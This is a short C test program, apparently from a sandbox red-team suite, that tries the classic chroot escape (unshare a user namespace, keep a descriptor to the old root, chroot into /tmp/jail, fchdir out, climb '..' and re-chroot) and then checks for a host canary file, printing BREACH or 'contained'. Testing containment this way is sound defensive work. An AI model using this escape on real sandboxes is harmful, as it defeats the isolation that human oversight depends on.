// attack: the classic way out of a chroot: a second chroot below, then ".." from outside of it
// outcome: ok
// violation: chroot
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    unshare(CLONE_NEWUSER);
    const int above = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") == 0) dprintf(1, "BREACH changed the root\n");
    fchdir(above);
    for (int i = 0; i < 64; ++i)
        chdir("..");
    if (chroot(".") == 0) dprintf(1, "BREACH changed the root from above\n");
    if (access("tmp/redteam-canary", F_OK) == 0) dprintf(1, "BREACH sees the host's canary\n");
    dprintf(1, "contained\n");
    return 0;
}
